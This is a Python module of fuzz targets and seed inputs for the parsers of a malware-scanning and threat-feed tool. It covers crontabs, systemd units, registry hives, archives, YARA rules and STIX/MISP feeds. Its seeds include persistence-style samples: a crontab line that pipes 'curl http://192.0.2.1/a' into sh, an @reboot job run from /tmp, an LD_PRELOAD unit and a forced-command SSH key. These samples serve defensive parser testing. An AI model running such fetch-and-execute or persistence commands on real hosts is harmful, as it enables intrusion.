"""The readers of hostile bytes, each as a function of bytes that may only return or refuse with a ``QuetsachError``.

``bench/fuzz.py`` runs them under atheris; ``tests/property/test_fuzz_targets.py`` runs each on its seeds and on what
Hypothesis thinks of, so that a target that rots is noticed.
"""

import bz2
import contextlib
import functools
import gzip
import hashlib
import hmac
import io
import json
import lzma
import os
import plistlib
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from unittest import mock

import pyarrow as pa
from tests.archives import COMPRESSIONS, CONTAINERS, zip_of
from tests.report_samples import Private, sample_findings, sample_report, sample_steps
from tests.report_schema import as_bytes, made_schema
from tests.routing_dumps import path as dump_path
from tests.routing_dumps import peers as dump_peers
from tests.routing_dumps import rib as dump_rib
from tests.rpm_formats import HEADER as RPM_HEADER
from tests.rpm_formats import SAMPLES as RPM_SAMPLES
from tests.signed_files import INDIRECT, SHA256, indirect, program, publisher, sign, signed

from quetsach.core.errors import QuetsachError
from quetsach.core.family import FamilyNames
from quetsach.core.family_list import read_family_list
from quetsach.core.indicator_list import ListKind, list_line, parse_list
from quetsach.core.memory_variant import memory_variant
from quetsach.core.rule_text import FileType, rules_for, rules_of
from quetsach.core.text import LocalText
from quetsach.endpoint.collect.accounts import parse_passwd
from quetsach.endpoint.collect.autostart import (
    parse_anacron_entry,
    parse_preload_line,
    parse_system_entry,
    parse_unit,
    parse_user_entry,
)
from quetsach.endpoint.collect.lines import command_in, parse_authorized_key
from quetsach.endpoint.collect.named_files import named_files
from quetsach.endpoint.collect.places import PLATFORMS, places_of
from quetsach.endpoint.collect.running import preloaded
from quetsach.endpoint.collect.text import archived_paths, bookmarked_path, parse_property_list, values_under
from quetsach.endpoint.collect.windows.binary import carve, texts_of
from quetsach.endpoint.collect.windows.registry import text_of
from quetsach.endpoint.collect.windows.startup_files import parse_autorun_entry, parse_shortcut
from quetsach.endpoint.collect.windows.tasks import parse_actions, parse_job, parse_task
from quetsach.endpoint.host.authenticode import file_digests, read_signed
from quetsach.endpoint.host.files import FileState
from quetsach.endpoint.host.hive import Hive
from quetsach.endpoint.host.hive_writer import edit_hive
from quetsach.endpoint.host.packages import files_of
from quetsach.endpoint.host.posix.mounts import parse_mountinfo
from quetsach.endpoint.host.posix.processes import PROTOCOLS, parse_table
from quetsach.endpoint.host.registry import BINARY, MULTI_SZ, SZ, DeleteKey, DeleteValue, RegistryValue, SetValue
from quetsach.endpoint.host.windows_path import files_named, machine_environment
from quetsach.endpoint.plan.removable_lines import separable
from quetsach.endpoint.plan.step import Step
from quetsach.endpoint.report.document import Report, read_json, to_json
from quetsach.endpoint.scanner.archive import inside as archive
from quetsach.endpoint.scanner.archive.member import InMemory, Limits
from quetsach.endpoint.scanner.kind import HEAD_BYTES, FileKind, kind_of
from quetsach.endpoint.scanner.recognise import KnownHashes
from quetsach.endpoint.store.journal import MAGIC, read_journal
from quetsach.endpoint.store.quarantine import Sealed, SealedRecord, seal
from quetsach.feeds.layout_files import read_layouts
from quetsach.feeds.packed import members
from quetsach.feeds.proposal import propose_layout
from quetsach.feeds.reader import read as read_feed
from quetsach.feeds.report_schema import read_report_schema
from quetsach.network.mmdb import read_mmdb
from quetsach.network.mrt import read_mrt
from quetsach.network.published import read_lines
from quetsach.packs.container import read_folder, unpack
from quetsach.packs.importer.indicator import Listed
from quetsach.packs.importer.indicator import read_json as read_document
from quetsach.packs.importer.intake import GivenFile, read_indicators
from quetsach.packs.importer.misp import events_of, read_events
from quetsach.packs.importer.stix import read_bundle
from quetsach.packs.importer.vetting import Commonplace, refusal_of
from quetsach.packs.load import parse_pack
from quetsach.packs.specimen.formats import build_actions, build_instance, build_job, build_shortcut, build_task
from quetsach.packs.specimen.hive import build_hive, hive_checksum
from quetsach.packs.withdrawal import Withdrawal, list_bytes
from quetsach.packs.withdrawal import parse_list as parse_withdrawals

KEY = bytes(32)
_scratch = tempfile.TemporaryDirectory(prefix="quetsach-fuzz-", dir="/dev/shm" if Path("/dev/shm").is_dir() else None)


@dataclass(frozen=True, slots=True)
class Target:
    """One reader. ``read`` raises nothing but ``QuetsachError``; ``seeds`` are well-formed inputs to start from.

    They are given, or made when they are asked for, where a program has to be there that makes them.
    """

    read: Callable[[bytes], object]
    given: tuple[bytes, ...] | Callable[[], tuple[bytes, ...]]

    @property
    def seeds(self) -> tuple[bytes, ...]:
        return self.given() if callable(self.given) else self.given


def _crontab(content: bytes) -> None:
    for line in content.split(b"\n"):
        for entry in (parse_system_entry(line), parse_user_entry(line, b"u"), parse_anacron_entry(line)):
            if entry is not None:
                list(named_files(entry.command))


def _lines(content: bytes) -> None:
    for line in content.split(b"\n"):
        parse_authorized_key(line)
        parse_preload_line(line)
    list(parse_passwd(content))
    parse_mountinfo(content)


def _shell(content: bytes) -> None:
    lines = content.split(b"\n")
    separable(lines, range(1, len(lines) + 1))


def _sealed(content: bytes) -> None:
    """Read a sealed file whose HMAC is right, as one is that our own key was stolen for, and as it comes."""
    for whole in (content, content + hmac.digest(KEY, content, "sha256")):
        path = Path(_scratch.name) / "item.sealed"
        path.write_bytes(whole)
        with contextlib.suppress(QuetsachError):
            sealed = Sealed.open(path, KEY)
            if sealed.record.state.size_bytes < 1 << 20:
                sealed.content(1 << 20)


def _journal(content: bytes) -> None:
    """Read a journal as it comes, and the content as the payload of a record that our own key signed."""
    read_journal(content, KEY)
    length = struct.pack("<I", len(content))
    head = length + struct.pack("<I", zlib.crc32(length)) + hmac.digest(KEY, content, "sha256")
    for record in read_journal(MAGIC + head + content, KEY).records:
        with contextlib.suppress(KeyError, ValueError, TypeError, AttributeError):  # what a session refuses them for
            Step.from_json(record["step"])


def _pack(content: bytes) -> None:
    """Read a container as it comes, and the content as what a container of the right form and check sum holds."""
    with contextlib.suppress(QuetsachError):
        unpack(content)
    key = hashlib.sha256(content).digest()[:16]
    packed = lzma.compress(content, check=lzma.CHECK_NONE, preset=0)
    mask = hashlib.shake_256(key).digest(len(packed))
    masked = bytes(byte ^ other for byte, other in zip(packed, mask, strict=True))
    parse_pack(unpack(b"QSPACK1\n" + key + masked), "fuzz")


def _hive(content: bytes) -> None:
    """Walk a hive as it comes, and with a header in order: the first keys of every level, and their values."""
    with contextlib.suppress(QuetsachError):
        _walk(content)
    _walk(_in_order(content))


def _in_order(content: bytes) -> bytes:
    hive = bytearray(content.ljust(4096, b"\0"))
    hive[:508] = _HIVE[:508]
    struct.pack_into("<I", hive, 40, (len(hive) - 4096) & ~4095)
    struct.pack_into("<I", hive, 508, hive_checksum(hive))
    return bytes(hive)


def _walk(content: bytes) -> None:
    descriptor = os.memfd_create("hive")
    os.write(descriptor, content)
    hive = Hive(descriptor)
    waiting = [hive.root]
    for _ in range(50):
        if waiting:
            key = waiting.pop()
            hive.is_searchable(key)
            waiting += hive.subkeys(key)[:5]
            for value in hive.values(key):
                text_of(value)
    hive.close()


def _hive_edit(content: bytes) -> None:
    """Edit a hive whose header is in order, whatever else it holds."""
    descriptor = os.memfd_create("hive")
    os.write(descriptor, _in_order(content))
    with tempfile.TemporaryDirectory() as folder:
        try:
            edit_hive(descriptor, Path(folder) / "target", _EDITS, now=0)
        finally:
            os.close(descriptor)


def _archive(content: bytes) -> None:
    """Look inside the content as what it starts like, and as the kind that its first byte picks."""
    picked = _KINDS[(content or b"\0")[0] % len(_KINDS)]
    with mock.patch.object(archive, "SLIPS", ()):
        for kind, inside in (kind_of(content[:HEAD_BYTES]), content), (picked, content[1:]):
            archive.scan_archive(InMemory(inside), kind, lambda _content, _kind: (), limits=_SMALL)


def _rpm(content: bytes) -> None:
    """Read the content as each form of rpm's database, and as the header of a package."""
    descriptor = os.memfd_create("rpm")
    os.write(descriptor, content)
    try:
        for _, read in RPM_SAMPLES.values():
            with contextlib.suppress(QuetsachError):
                for blob in read(descriptor):
                    list(files_of(blob, frozenset({b"usr/bin/x"}), {b"x"}))
    finally:
        os.close(descriptor)
    list(files_of(content, frozenset({b"usr/bin/x"}), {b"x"}))


def _mac(content: bytes) -> None:
    """Read a property list and what is in it, and a bookmark."""
    found = parse_property_list(content)
    values_under(found, {"Program", "ProgramArguments"})
    archived_paths(found)
    bookmarked_path(content)


def _running(content: bytes) -> None:
    for protocol in PROTOCOLS:
        list(parse_table(protocol, content))
    preloaded(content)


def _commands(content: bytes) -> None:
    """Try the pattern of every place on every line."""
    for line in content.split(b"\n")[:20]:
        for pattern in _PATTERNS:
            command_in(line, pattern)


def _rules(content: bytes) -> None:
    source = content.decode("utf-8", "replace")
    memory_variant(rules_of(source), frozenset({"a", "b"}))
    rules_for(rules_of(source), frozenset({FileType.PE}))


def _sealed_file() -> bytes:
    """Return a sealed file with a hole, without its HMAC."""
    content = os.memfd_create("content")
    os.write(content, b"x" * 5_000)
    os.truncate(content, 20_000)
    state = FileState.of(os.fstat(content), xattrs={"user.a": b"b"})
    digest = hashlib.sha256(b"x" * 5_000 + bytes(15_000)).hexdigest()
    record = SealedRecord("s", 1, b"/a b", state, digest, "eicar", "rule", "2026-11-25T00:00:00Z")
    path = Path(_scratch.name) / "seed.sealed"
    seal(content, record, path, KEY)
    os.close(content)
    return path.read_bytes()[: -hashlib.sha256().digest_size]


def _packed() -> bytes:
    """Return what the container of the pack of EICAR holds, not compressed."""
    files = read_folder(Path(__file__).parents[2] / "packs" / "eicar").items()
    return b"".join(bytes([len(name)]) + name.encode() + len(text).to_bytes(4) + text for name, text in files)


def _steps() -> tuple[bytes, ...]:
    """Return a step of each kind, as the journal keeps it."""
    private = Private()
    results = sample_steps(private, tuple(sample_findings(private)))
    return tuple(json.dumps({"record": "step", "step": result.step.as_json()}).encode() for result in results)


def _signature(content: bytes) -> None:
    file_digests(content)
    read_signed(content, ())


def _windows(content: bytes) -> None:
    """Read all that has no error of its own: what is not of the form is ``None``."""
    parse_shortcut(content)
    parse_job(content)
    parse_task(content)
    parse_actions(content)
    list(carve(content))
    texts_of(content)
    for line in content.split(b"\n")[:100]:
        parse_autorun_entry(line)
    files_named(content.decode("utf-8", "replace"), machine_environment())


def _report(content: bytes) -> None:
    read_json(Report, content, where="fuzz")


def _indicators(ending: str, seed_name: str) -> Target:
    """Return the target of a format of indicators; what it gives for a list must be an entry of that list."""

    def read(content: bytes) -> None:
        for found in read_indicators(GivenFile(f"fuzz{ending}", content), _NOW):
            if isinstance(found, Listed) and refusal_of(found, _COMMONPLACE) is None:
                parse_list(found.kind, list_line(found.kind, found.entry, found.label))

    return Target(read, ((_GOLDEN / seed_name).read_bytes(),))


def _document(content: bytes) -> None:
    """Read JSON of any shape as a bundle and as events, and the content as a pattern."""
    value = {"objects": [{"type": "indicator", "pattern": content.decode("utf-8", "replace")}]}
    list(read_bundle(value, "fuzz", _NOW))
    given = read_document(content, "fuzz")
    list(read_bundle(given, "fuzz", _NOW))
    list(read_events(events_of(given), "fuzz"))


def _list(content: bytes) -> None:
    text = content.decode("utf-8", "replace")
    for known in _LISTS:
        known.find(text)
    for kind in ListKind:
        with contextlib.suppress(QuetsachError):
            parse_list(kind, text).find(text)


def _sections(content: bytes) -> None:
    for whole in (content, b"MZ" + content):
        list(_KNOWN_HASHES.found_in(InMemory(whole), FileKind.PE))


_GOLDEN = Path(__file__).parents[1] / "golden" / "indicators"
_NOW = datetime(2026, 11, 25, tzinfo=UTC)
_COMMONPLACE = Commonplace.load(Path(__file__).parents[2] / "data" / "commonplace")
_LISTS = (
    parse_list(ListKind.ADDRESSES, "192.0.2.1\n198.51.100.0/24\n2001:db8::/32"),
    parse_list(ListKind.DOMAINS, "evil.example.test"),
    parse_list(ListKind.URLS, "http://evil.example.test/a"),
)
_KNOWN_HASHES = KnownHashes([f"section:512:{'0' * 32}", f"*:{'0' * 40}", f"64:{'0' * 64}"])
_PATTERN = (
    b"[file:hashes.'SHA-256' = 'a' AND (file:size = 5 OR file:name IN ('b', 'c'))] OR ([ipv4-addr:value ISSUBSET 'd'])"
)
_SMALL = Limits(depth=3, members=100, output_bytes=1 << 20, bomb_bytes=1 << 20, seconds=1)
_KINDS = sorted(FileKind)
_MEMBERS = {"a.txt": b"some text " * 99, "b.zip": zip_of({"c": bytes(3_000)})}


@functools.cache
def _archives() -> tuple[bytes, ...]:
    return (
        *(form(_MEMBERS) for name, form in CONTAINERS.items() if name != "iso"),  # too large to be a seed
        *(form(bytes(3_000)) for form in COMPRESSIONS.values()),
    )


_HIVE = build_hive({"": {"x": (SZ, "y")}, r"A\B": {"run": (MULTI_SZ, ["a", "b"]), "d": (BINARY, bytes(20_000))}})
_EDITS = (
    DeleteValue(r"A\B", "d"),
    SetValue(r"A\B", RegistryValue("run", BINARY, bytes(20_000))),
    SetValue("New", RegistryValue("v", SZ, b"")),
    DeleteKey("A"),
)
_WINDOWS = (
    build_task("a.exe", "b"),
    build_shortcut(wide_path="C:\\a", items=["x y"], arguments="b", folder="c", relative="d", environment="%TEMP%\\e"),
    build_job("a.exe", "b", triggers=[1, 7]),
    build_actions("a", "b", handler="01234567-89AB-CDEF-0123-456789ABCDEF"),
    build_instance("__FilterToConsumerBinding", 'A.Name="x"', '__EventFilter.Name="y"', sid=b"12"),
)
_PROPERTY_LISTS = tuple(
    plistlib.dumps({"Program": "/a", "x": [{"ProgramArguments": ["/b", "c d"]}], "$objects": ["file:///e"]}, fmt=form)
    for form in (plistlib.FMT_XML, plistlib.FMT_BINARY)
)
_SOCKETS = b"""  sl  local_address rem_address
   0: 0100007F:1F90 0A00000A:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 4711 1 0
"""
_PATTERNS = tuple({place.command for platform in PLATFORMS for place in places_of(platform) if place.command})
_RULES = b"""import "math"
private rule a { condition: filesize < 2MB and uint16(0) == 0x5a4d }
rule b : t { meta: file_types = "pe" strings: $x = "y" wide nocase $h = { 41 [2-4] (42|43) } $r = /a\\/b{1,3}/i
  condition: a and any of them and $x at 0 and for all i in (1..#x) : ( @x[i] < filesize ) }
"""
_WITHDRAWN = list_bytes([Withdrawal("conficker", "hosts", "2026.11.25", LocalText("sai", "wrong"), date(2026, 11, 25))])
UNIT = b"""[Unit]
Description=x \\
  y
[Service]
ExecStart=-/bin/sh -c 'a; b'
Environment=LD_PRELOAD=/a.so
[Install]
WantedBy=multi-user.target
"""
CRON = b"""SHELL=/bin/sh
@reboot root cd /tmp && ./a
0 5 * * 1 root curl http://192.0.2.1/a|sh
1 5 cron.daily run-parts /etc/cron.daily
"""
SHELL = b"if true; then\n  a\nfi\nfor x in 1 2; do b; done\ncat <<E\nE\n"
LINES = b"""command="/bin/sh -c x" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ c
root:x:0:0:root:/root:/bin/sh
22 1 0:20 / /proc rw - proc proc rw
"""


_FEED = b"""
feed = "other"
title = { vi = "o", en = "o" }
[framing]
%s
[[report]]
name = "bots"
summary = { vi = "o", en = "o" }
only.kind = "*"
columns = { observed_at = "at", address = ["ip", "address.ip"], malware = ["bot", "name"], bot_id = "id" }
identifying.event = "n"
"""
_ROW = b"2026-11-01T00:30:00 14.160.0.1 mirai x"
_OBJECT = b'{"at": "2026-11-01T00:30:00Z", "ip": "14.160.0.1", "bot": "x", "kind": "b", "address": [{"ip": "1.1.1.1"}]}'
_YAML = b'---\nat: 2026-11-01T00:30:00\nip: 14.160.0.1\nbot: x\nkind: "b"\n# c\nn: ~\n'
_BUNDLE = b"""{"type": "bundle", "id": "bundle--1", "objects": [
{"type": "malware", "id": "malware--1", "name": "x"},
{"type": "ipv4-addr", "id": "ipv4-addr--1", "value": "14.160.0.1"},
{"type": "network-traffic", "id": "network-traffic--1", "src_ref": "ipv4-addr--1", "src_port": 1, "protocols": ["tcp"]},
{"type": "observed-data", "id": "observed-data--1", "object_refs": ["network-traffic--1"]},
{"type": "indicator", "id": "indicator--1", "pattern": "[ipv4-addr:value = '14.160.0.2']", "pattern_type": "stix",
 "valid_until": "2026-11-02T00:00:00Z"},
{"type": "relationship", "source_ref": "indicator--1", "target_ref": "malware--1", "relationship_type": "indicates"},
{"type": "sighting", "sighting_of_ref": "indicator--1", "observed_data_refs": ["observed-data--1"]}, 7]}"""
_EVENT = rb"""{"Event": {"uuid": "1", "info": "x", "Tag": [{"name": "misp-galaxy:botnet=\"x\""}], "Attribute": [
{"type": "ip-src|port", "value": "14.160.0.1|80", "first_seen": "2026-11-01T00:30:00Z",
"Sighting": [{"type": "0", "date_sighting": "1793534400"}, {"type": "2", "date_sighting": "9"}]},
{"type": "md5", "value": "0", "Sighting": [{"type": "1"}]}],
"Object": [{"name": "network-connection", "Attribute": [{"type": "ip-src", "value": "14.160.0.1", "timestamp": "1"},
{"type": "port", "object_relation": "dst-port", "value": "80"}]}]}}"""


def _feed(framing: bytes, *seeds: bytes) -> Target:
    """Return a target that reads a file of a feed, and looks that every record lies in it."""
    [layout] = read_layouts(_FEED % framing, where="fuzz")
    families = FamilyNames.of([], version="fuzz")

    def read(content: bytes) -> None:
        for batch in read_feed([content], layout, families, now=datetime(2026, 12, 1, tzinfo=UTC)):
            for table in (batch.sightings, batch.rejects):
                for start, length in zip(
                    table["byte_offset"].to_pylist(), table["byte_length"].to_pylist(), strict=True
                ):
                    assert 0 <= start <= start + length <= len(content) + 1

    return Target(read, seeds)


def _packed_feed(name: str, *seeds: bytes) -> Target:
    """Return a target that reads every file of a packed delivery to its end."""

    def read(content: bytes) -> None:
        for member in members(io.BytesIO(content), name):
            with member.open() as stream:
                assert member.size_bytes == sum(map(len, iter(lambda: stream.read(1 << 16), b"")))

    return Target(read, seeds)


_ZSTD: bytes = pa.compress(_ROW, codec="zstd", asbytes=True)
_MAIL = (
    b"From: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\nContent-Type: text/csv\r\n"
    b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=a.csv\r\n\r\nYSxiCjEsMgo=\r\n"
    b"--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: x\r\nContent-Type: application/json; name*=utf-8''b.json\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n\r\n{=7D\r\n--b--\r\n"
)
_REPORT = (
    b"From: a\r\nX-XARF: PLAIN\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nHello\r\n"
    b"--b\r\nContent-Type: text/plain; name=report.txt\r\n\r\n---\r\nSource: 14.160.0.1\r\n--b--\r\n"
)


def _network(form: str) -> Callable[[bytes], object]:
    return lambda content: read_lines(io.BytesIO(content), form, where="fuzz")


def _mmdb(content: bytes) -> None:
    """Read a MaxMind DB file as a table of both kinds."""
    for is_country in (False, True):
        with contextlib.suppress(QuetsachError):
            read_mmdb(content, where="fuzz", is_country=is_country)


def _text(value: str) -> bytes:
    return (
        bytes([2 << 5 | 29, len(value) - 29]) + value.encode()
        if len(value) > 28
        else b"%c%s" % (64 | len(value), value.encode())
    )


def _mmdb_file(ip_version: int) -> bytes:
    """Return a file of one node, whose left record has an AS and a country."""
    numbers = {"node_count": 1, "record_size": 24, "ip_version": ip_version, "build_epoch": 1_793_491_200}
    about = b"\xe4" + b"".join(_text(name) + b"\xc4" + struct.pack(">I", value) for name, value in numbers.items())
    values = b"\xe2" + _text("autonomous_system_number") + b"\xc2\xfc\x00" + _text("country_code") + _text("VN")
    return b"\0\0\x11\0\0\1" + bytes(16) + values + b"\xab\xcd\xefMaxMind.com" + about


_MMDB = tuple(map(_mmdb_file, (4, 6)))


TARGETS: Mapping[str, Target] = {
    "feed-csv": _feed(b'comment = "#"', b'# x\nat,ip,bot,kind,n\n"2026-11-01 00:30:00",14.160.0.1,"m""i",b,1\n'),
    "feed-tsv": _feed(
        b'delimiter = "tab"\nunquoted = true', b"at\tip\tbot\tkind\tn\n" + _ROW.replace(b" ", b"\t") + b"\t1"
    ),
    "feed-words": _feed(b'syntax = "words"\nnames = ["at", "ip", "bot", "kind", "n", "id"]', _ROW + b" 1\n" + _ROW),
    "feed-json-lines": _feed(b'syntax = "json-lines"', _OBJECT + b"\n" + _OBJECT),
    "feed-json-list": _feed(b'syntax = "json"\neach = "address"', b"[" + _OBJECT + b",\n" + _OBJECT + b"]"),
    "feed-json-document": _feed(b'syntax = "json"\npath = "a.b"', b'{"a": {"b": [' + _OBJECT + b", 7]}}"),
    "feed-stix": _feed(b'syntax = "stix"', _BUNDLE),
    "feed-misp": _feed(b'syntax = "misp"', _EVENT, b"[" + _EVENT + b"]"),
    "feed-yaml": _feed(b'syntax = "yaml"', _YAML, _YAML.replace(b"x", b"'x'' y' # z") + b"...\r\n" + _YAML),
    "feed-file-times": _feed(
        b'syntax = "json-lines"\n[clock]\nform = "filetime"',
        _OBJECT.replace(b'"2026-11-01T00:30:00Z"', b"134379918000000000"),
    ),
    "feed-layout": Target(lambda content: read_layouts(content, where="fuzz"), (_FEED % b'delimiter = "bar"',)),
    "feed-report-schema": Target(
        lambda content: read_report_schema(content, where="fuzz"), (as_bytes(dict(list(made_schema().items())[:6])),)
    ),
    "feed-proposal": Target(
        lambda content: propose_layout(content, feed="fuzz", report="fuzz"), (b"time;ip;bot\n1;1.1.1.1;x\n", _OBJECT)
    ),
    "feed-compressed": _packed_feed(
        "", gzip.compress(_ROW), bz2.compress(_ROW), lzma.compress(_ROW) + lzma.compress(_ROW), _ZSTD
    ),
    "feed-zip": _packed_feed(
        "",
        zip_of({"a.csv": _ROW, "b.csv.gz": gzip.compress(_ROW)}),
        zip_of({"a.csv": _ROW}, zipfile.ZIP_BZIP2),
        zip_of({"a.csv": _ROW}, zipfile.ZIP_LZMA),
    ),
    "feed-mail": _packed_feed("a.eml", _MAIL, _REPORT),
    "families-certtools": Target(
        lambda content: read_family_list(content, form="certtools"),
        (b'"^(b6[67]{1}-ss-|a )?gamarue(_v[12])?$",andromeda,x\n"^zeus.*$",zeus\n',),
    ),
    "families-misp-galaxy": Target(
        lambda content: read_family_list(content, form="misp-galaxy"),
        (b'{"values": [{"value": "Emotet", "meta": {"synonyms": ["Heodo"]}}]}',),
    ),
    "network-mmdb": Target(_mmdb, _MMDB),
    "network-mrt": Target(
        lambda content: read_mrt(io.BytesIO(content), where="fuzz"),
        (
            dump_peers()
            + dump_rib("192.0.2.0/24", dump_path((2, [1, 7]), (1, [2])))
            + dump_rib("2001:db8::/32", subtype=10),
        ),
    ),
    **{
        f"network-{form}": Target(_network(form), (line,))
        for form, line in {
            "csv": b'14.160.0.0,14.160.0.255,45899,"VNPT, Corp"\n',
            "country-csv": b"14.160.0.0,14.160.0.255,VN\n",
            "ip2asn": b"1.0.0.0\t1.0.0.255\t13335\tUS\tCLOUDFLARENET\n",
            "pyasn": b"; Original file : rib.20261031.2200.bz2\n1.0.0.0/24\t13335\n",
            "delegated": b"2|apnic|1|1|19830613|20261101|+1000\napnic|VN|ipv6|2001:ee0::|32|20080101|assigned|A9\n",
        }.items()
    },
    "unit-file": Target(lambda content: list(parse_unit(content)), (UNIT,)),
    "crontab": Target(_crontab, (CRON,)),
    "text-lines": Target(_lines, (LINES,)),
    "shell-script": Target(_shell, (SHELL,)),
    "journal": Target(_journal, (MAGIC, *_steps())),
    "sealed-file": Target(_sealed, (_sealed_file(),)),
    "report": Target(_report, (json.dumps(to_json(sample_report())).encode(),)),
    "pack-container": Target(_pack, (_packed(),)),
    "hive": Target(_hive, (_HIVE,)),
    "hive-edit": Target(_hive_edit, (_HIVE,)),
    "archive": Target(_archive, _archives),
    "yara-rules": Target(_rules, (_RULES,)),
    "signature": Target(_signature, (signed(INDIRECT, indirect(bytes(32), SHA256), publisher("Microsoft Windows")),)),
    "program": Target(_signature, (sign(program(), publisher("Microsoft Windows")),)),
    "rpm-database": Target(_rpm, (RPM_HEADER, *(content for content, _ in RPM_SAMPLES.values()))),
    "property-list": Target(_mac, _PROPERTY_LISTS),
    "running-system": Target(_running, (_SOCKETS,)),
    "commands": Target(_commands, (CRON + SHELL, UNIT)),
    "indicator-list": Target(_list, (b"http://evil.example.test/a 192.0.2.1:80 [2001:db8::1]:80 198.51.100.7",)),
    "withdrawals": Target(lambda content: parse_withdrawals(content, where="fuzz"), (_WITHDRAWN,)),
    "indicators-plain": _indicators(".txt", "lists.in.txt"),
    "indicators-yara": _indicators(".yar", "rules.in.yar"),
    "indicators-clamav-files": _indicators(".hsb", "files.in.hsb"),
    "indicators-clamav-sections": _indicators(".mdb", "sections.in.mdb"),
    "indicators-clamav-bodies": _indicators(".ndb", "bodies.in.ndb"),
    "indicators-stix": _indicators(".json", "stix.in.json"),
    "indicators-misp": _indicators(".json", "misp.in.json"),
    "indicators-documents": Target(_document, (_PATTERN, b'{"Event": {"Attribute": [{"type": "md5"}]}}')),
    "program-sections": Target(_sections, (program(),)),
    "windows-formats": Target(_windows, (*_WINDOWS, b"[autorun]\nopen=a.exe")),
}
